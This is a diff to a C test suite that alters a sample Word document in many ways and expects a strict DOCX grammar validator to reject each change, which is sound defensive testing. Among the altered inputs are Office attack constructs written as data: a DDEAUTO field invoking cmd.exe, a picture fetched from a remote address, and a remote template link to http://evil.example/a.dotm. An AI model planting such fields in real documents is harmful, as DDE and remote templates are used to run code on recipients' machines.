@@ -197,6 +197,57 @@ test_changes (void)
     }
 }
 
+#define DOCUMENT "word/document.xml"
+
+static const struct {
+    const char *clause, *what, *member, *from, *to;
+} document_change[] = {
+    { NULL, "another field", DOCUMENT, "REF b \\h ", "TOC \\o \"1-3\"" },
+    { "O-16", "bookmark twice", DOCUMENT, "<w:bookmarkEnd ",
+      "<w:bookmarkStart w:id=\"1\" w:name=\"b\"/><w:bookmarkEnd " },
+    { "O-16", "style that is not there", DOCUMENT, "<w:pStyle w:val=\"a\"/>",
+      "<w:pStyle w:val=\"A\"/>" },
+    { "O-18", "DDE", DOCUMENT, "REF b", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe" },
+    { "O-18", "a picture from elsewhere", DOCUMENT, "REF b", "INCLUDEPICTURE \"http://a\"" },
+    { "O-18", "in small letters", DOCUMENT, "REF b", "ref b" },
+    { "O-18", "a link", DOCUMENT, " PAGE ", " HYPERLINK " },
+    { "O-18", "a longer word", DOCUMENT, " PAGE ", " PAGEX " },
+    { "O-20", "an instruction in pieces", DOCUMENT, "<w:fldChar w:fldCharType=\"separate\"/>",
+      "<w:instrText> DATE </w:instrText><w:fldChar w:fldCharType=\"separate\"/>" },
+    { "O-20", "an instruction in what is shown", DOCUMENT, "<w:t>1</w:t>",
+      "<w:instrText> DATE </w:instrText>" },
+    { "O-20", "an instruction outside of fields", DOCUMENT, "<w:t>2</w:t>",
+      "<w:instrText> DATE </w:instrText>" },
+    { "O-20", "no end", DOCUMENT, "<w:t>2</w:t>", "<w:fldChar w:fldCharType=\"begin\"/>" },
+    { "O-20", "no begin", DOCUMENT, "<w:t>2</w:t>", "<w:fldChar w:fldCharType=\"end\"/>" },
+    { "O-11", "embedded object", DOCUMENT, "<w:t>2</w:t>", "<w:object/>" },
+    { "O-11", "old picture", DOCUMENT, "<w:t>2</w:t>", "<w:pict/>" },
+    { "O-11", "chunk of another format", DOCUMENT, "<w:sectPr>",
+      "<w:altChunk r:id=\"rId2\"/><w:sectPr>" },
+    { "O-11", "sub-document", DOCUMENT, "<w:sectPr>", "<w:subDoc r:id=\"rId2\"/><w:sectPr>" },
+    { "O-12", "link to elsewhere", DOCUMENT, "<w:fldSimple w:instr=\" PAGE \">",
+      "<w:hyperlink r:id=\"rId2\">" },
+    { "O-5", "remote template", "word/_rels/document.xml.rels",
+      OFFICE_REL "/styles\" Target=\"styles.xml",
+      OFFICE_REL "/attachedTemplate\" Target=\"http://evil.example/a.dotm" },
+};
+
+static void
+test_document (void)
+{
+    for (size_t i = 0; i <= LENGTH (document_change); i++) {
+        Office o = office_of (office_document, LENGTH (office_document));
+        if (i > 0)
+            office_change (&o, document_change[i - 1].member, document_change[i - 1].from,
+                           document_change[i - 1].to);
+        Buf b = office_packed (&o);
+        expect (MUGAI_GRAMMAR_DOCX, b.data, b.size, i > 0 ? document_change[i - 1].clause : NULL,
+                i > 0 ? document_change[i - 1].what : "text document");
+        buf_clear (&b);
+        office_clear (&o);
+    }
+}
+
 static void
 test_members (void)
 {
@@ -345,6 +396,7 @@ test_office (void)
 
     expect_office (&o, NULL, "workbook");
     test_changes();
+    test_document();
     test_members();
     test_depth();
     test_bytes();
